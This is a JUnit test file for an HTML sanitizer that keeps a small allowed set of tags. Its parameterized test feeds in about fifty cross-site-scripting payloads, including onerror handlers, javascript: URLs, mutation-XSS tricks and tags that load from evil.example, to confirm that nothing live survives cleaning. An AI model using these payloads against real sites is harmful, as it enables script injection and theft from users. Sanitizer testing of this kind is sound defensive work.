package org.rolewright.platform.html;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What people may write into a formatted text, and what is taken out. */
class RichTextTest {
  private static final UUID ASSET = UUID.fromString("6f1f0d9c-0d8e-4a53-9b7a-0c4a4a0b0c01");

  /** Anything that a browser would run, fetch or style: a tag or attribute outside the subset. */
  private static final Pattern LIVE =
      Pattern.compile(
          "<(?!/?(p|br|strong|em|b|i|u|s|sub|sup|code|pre|blockquote|ul|ol|li|table|caption|thead|tbody"
              + "|tfoot|tr|th|td|span|img|math|mrow|mi|mn|mo|ms|mtext|mspace|msup|msub|msubsup|mfrac"
              + "|msqrt|mroot|mover|munder|munderover|mtable|mtr|mtd|mmultiscripts|mprescripts|none"
              + "|mpadded|mphantom|mstyle|merror|semantics)[ >])"
              + "|<[^>]*\\s(on\\w+|style|src|href|srcset|xlink:href|class|id|xmlns|action|formaction)=");

  @Test
  void what_the_subset_has_stays_as_it_is() {
    for (var text :
        List.of(
            "<p>Which of these is <strong>best</strong>?</p>",
            "<ul><li>one</li><li>two<br>lines</li></ul>",
            "<p>x<sub>1</sub> &lt; 3 &amp; y &gt; 2</p>",
            "<table><caption>Doses</caption><thead><tr><th scope=\"col\">Age</th></tr></thead>"
                + "<tbody><tr><td colspan=\"2\">5</td></tr></tbody></table>",
            "<math display=\"block\"><mfrac><mrow><mi>a</mi><mo>+</mo><mn>1</mn></mrow>"
                + "<msqrt><mi>b</mi></msqrt></mfrac></math>",
            "<p dir=\"rtl\" lang=\"ar\">\u0627\u0644\u0633\u0644\u0627\u0645</p>",
            "<p><img data-asset=\"" + ASSET + "\" alt=\"A drip\" width=\"300\"></p>")) {
      var cleaned = RichText.of(text);
      assertEquals(text, cleaned.html());
      assertEquals(List.of(), cleaned.removed(), text);
      assertEquals(cleaned, RichText.of(cleaned.html()));
    }
    assertEquals(
        Set.of(ASSET), RichText.of("<img data-asset=\"" + ASSET + "\" alt=\"A drip\">").assets());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/pixel.gif\">",
        "<img data-asset=\"../../etc/passwd\" src=x>",
        "<image href=x onerror=alert(1)>",
        "<p onclick=\"alert(1)\">x</p>",
        "<p style=\"background:url(https://evil.example/)\">x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
        "<math href=\"javascript:alert(1)\"><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><maction actiontype=\"statusline#http://evil.example\"><mi>x</mi></maction></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<form action=\"https://evil.example/\"><input name=x><button>go</button></form>",
        "<video><source onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<p id=\"__proto__\" class=\"x\">x</p>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<p title='`<img src=x onerror=alert(1)>`'>x</p>",
        "&lt;script&gt;alert(1)&lt;/script&gt;<img/src=x/onerror=alert(1)>",
        "<p/onclick=alert(1)//>x",
        "\u003cimg src=x onerror=\u0061lert(1)\u003e",
        "<div><![if !IE]><img src=x onerror=alert(1)><![endif]></div>",
        "<table background=\"javascript:alert(1)\"><td background=\"https://evil.example/\">x</td></table>",
        "<b <script>alert(1)</script>0",
        "<img alt=\"&quot; onerror=alert(1) x=&quot;\" data-asset=\"6f1f0d9c-0d8e-4a53-9b7a-0c4a4a0b0c01\">",
      })
  void nothing_live_stays(String attack) {
    var cleaned = RichText.of(attack);
    assertFalse(LIVE.matcher(withoutTexts(cleaned.html())).find(), cleaned.html());
    assertEquals(cleaned.html(), RichText.of(cleaned.html()).html(), "cleaning twice is once");
  }

  /** Attribute values hold no mark that could end them, so what looks live in them is only text. */
  private static String withoutTexts(String html) {
    return html.replaceAll("\"[^\"<>]*\"", "\"\"");
  }

  @Test
  void what_was_taken_out_is_named() {
    var cleaned =
        RichText.of(
            "<p style=\"color:red\" onclick=\"x()\">a<script>b</script><img src=\"https://e.example/p.png\"></p>");
    assertEquals("<p>a</p>", cleaned.html());
    assertEquals(
        Set.of("p style", "p onclick", "script", "img", "img src"), Set.copyOf(cleaned.removed()));
  }

  @Test
  void broken_markup_is_closed() {
    assertEquals("<p>a <strong>b</strong></p>", RichText.of("<p>a <strong>b").html());
    assertEquals("a &lt; b", RichText.of("a < b").html());
    assertEquals("<ul><li>a</li></ul>", RichText.of("<ul><li>a</ul></li></p>").html());
  }

  @Test
  void two_megabytes_of_markup_take_a_moment() {
    var bomb = "<p><b><i><u>".repeat(170_000);
    assertTimeout(Duration.ofSeconds(20), () -> assertTrue(RichText.of(bomb).html().length() > 0));
    var text = "x".repeat(2_000_000);
    assertTimeout(Duration.ofSeconds(5), () -> assertEquals(text, RichText.of(text).html()));
  }

  @Test
  void the_words_of_a_text_are_found() {
    assertEquals(
        "One & two three A drip",
        RichText.plain(
            "<p>One &amp; two</p><ul><li>three</li></ul><img data-asset=\""
                + ASSET
                + "\" alt=\"A drip\">"));
  }

  @Test
  void text_made_safe_says_the_same() {
    for (var text : List.of("a < b", "<script>", "\"x\" & 'y'", "&lt;", "{{7*7}}", "a=b@c+d`e"))
      assertEquals(text, RichText.plain(RichText.of(RichText.escaped(text)).html()));
  }
}
